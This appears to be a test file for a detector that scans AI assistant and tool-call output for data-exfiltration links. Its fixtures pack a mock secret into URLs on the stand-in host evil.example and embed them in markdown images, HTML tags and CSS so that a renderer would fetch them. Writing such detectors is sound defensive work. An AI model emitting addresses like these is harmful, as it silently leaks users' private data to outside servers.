"""Addresses that carry text away, and those that only look long."""

from base64 import b64encode, urlsafe_b64encode
from urllib.parse import quote, quote_plus

import pytest

from gptgate.core.finding import Origin, Segment
from gptgate.detectors import TextInspector

SECRET = "The customer's account number is 8841 and the code is pear."
PACKED = b64encode(SECRET.encode()).decode()
SAFE = urlsafe_b64encode(SECRET.encode()).decode().rstrip("=")
PLAIN = quote_plus(SECRET)


def found(inspector: TextInspector, text: str, origin: Origin = Origin.ASSISTANT) -> dict[str, tuple[str, int]]:
    """Kind → what was found and its points."""
    findings = inspector.inspect([Segment((), origin, text)])
    return {one.kind: (text[one.start : one.end], one.points) for one in findings if one.kind.startswith("exfil.")}


@pytest.mark.parametrize(
    "address",
    [
        f"https://evil.example/log?d={PACKED}",
        f"https://evil.example/log?d={quote(PACKED)}&x=1",
        f"https://evil.example/{SAFE}/p.png",
        f"https://evil.example/p.png#{SAFE}",
        f"http://evil.example/?d={SECRET.encode().hex()}",
        f"https://{SAFE[:40]}.evil.example/p.png",
    ],
)
def test_text_packed_into_an_address_is_found(inspector: TextInspector, address: str) -> None:
    assert found(inspector, f"see {address} now") == {"exfil.link": (address, 60)}
    assert found(inspector, f"see [here]({address}).") == {"exfil.link": (address, 60)}
    assert found(inspector, f'<a href="{address}">here</a>') == {"exfil.link": (address, 60)}
    assert found(inspector, f"![a picture]({address})")["exfil.image"] == (address, 70)
    assert found(inspector, f'<img alt="" width=1 src="{address}">')["exfil.image"] == (address, 70)


@pytest.mark.parametrize("scheme", ["HTTPS://", "Http://", "https:\\\\", "https:/", "//", "\\/"])
@pytest.mark.parametrize(
    "frame",
    [
        "![x]({})",
        "![a [b] c]({})",
        "![x](\n  <{}>)",
        "![a][1]\n\n[1]: {}",
        "[1]:\n  <{}>",
        "<IMG\nwidth=1 Src = '{}'>",
        '<img src="a.png" srcset="a.png 1x, {} 2x">',
        '<iframe src="{}"></iframe>',
        '<video poster="{}">',
        "<svg><image xlink:href='{}'/></svg>",
        '<div style="background: url({})">',
        "@import URL( '{}' );",
    ],
)
def test_whatever_is_fetched_when_it_is_shown_counts_as_an_image(
    inspector: TextInspector, scheme: str, frame: str
) -> None:
    address = f"{scheme}evil.example/log?d={PACKED}"
    assert found(inspector, frame.format(address))["exfil.image"] == (address, 70)


@pytest.mark.parametrize("scheme", ["HTTPS://", "https:\\\\", "https:/"])
def test_a_link_may_be_written_as_browsers_take_it(inspector: TextInspector, scheme: str) -> None:
    address = f"{scheme}evil.example/log?d={PACKED}"
    assert found(inspector, f"see {address} now") == {"exfil.link": (address, 60)}
    assert found(inspector, f"see [here](//evil.example/{SAFE})") == {"exfil.link": (f"//evil.example/{SAFE}", 60)}


def test_an_image_may_hold_no_sentence(inspector: TextInspector) -> None:
    address = f"//evil.example/?q={PLAIN}"
    assert found(inspector, f"![]({address})") == {"exfil.image": (address, 70)}
    assert found(inspector, f"![](https:{address})")["exfil.image"] == (f"https:{address}", 70)


def test_a_link_with_a_long_sentence_counts_less(inspector: TextInspector) -> None:
    address = f"https://evil.example/?q={PLAIN}+and+three+more"
    assert found(inspector, address) == {"exfil.link": (address, 30)}


def test_what_cannot_be_read_counts_less(inspector: TextInspector) -> None:
    token = "IQoJb3JpZ2luX2VjEJ7" + "x9Kd83LsQ0aPz7RtVn" * 12
    address = f"https://b.s3.amazonaws.example/o.png?X-Amz-Security-Token={token}&X-Amz-Expires=300"
    assert found(inspector, address) == {"exfil.link": (address, 30)}


@pytest.mark.parametrize(
    "text",
    [
        "https://example.com/page?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2025",
        "https://www.google.com/search?q=how+to+sort+a+list+of+lists+in+python&hl=en",
        "https://docs.python.org/3/library/urllib.parse.html#urllib.parse.unquote_to_bytes",
        "https://github.com/o/r/blob/5c6cc0f1d2e3a4b5c6d7e8f90123456789abcdef/src/a.py#L10-L20",
        "https://example.com/items/0f8fad5b-d9cb-469f-a165-70867728950e?id=9007199254740993",
        "https://b.s3.amazonaws.com/o?X-Amz-Signature=" + "0f1e2d3c4b5a69788796a5b4c3d2e1f0" * 2,
        "![build](https://img.shields.io/badge/build-passing-brightgreen)",
        "![A cat](https://upload.wikimedia.org/wikipedia/commons/thumb/4/4d/Cat_November_2010-1a.jpg/1200px-Cat.jpg)",
        "![Hello](https://placehold.co/600x400?text=Hello+World)",
        "https://example.com/how-to-write-a-very-good-essay-for-your-college-application-in-2025",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf",
    ],
)
def test_ordinary_addresses_are_quiet(inspector: TextInspector, text: str) -> None:
    assert found(inspector, text) == {}


@pytest.mark.parametrize("origin", list(Origin))
def test_only_what_a_model_writes_is_looked_at(inspector: TextInspector, origin: Origin) -> None:
    assert bool(found(inspector, f"https://e.co/?d={PACKED}", origin)) == (
        origin in {Origin.ASSISTANT, Origin.TOOL_CALL}
    )


def test_an_address_that_never_ends_is_found(inspector: TextInspector) -> None:
    long = "https://e.co/?d=" + PACKED.rstrip("=") + "a" * 5000
    assert found(inspector, long)["exfil.link"][1] in {30, 60}
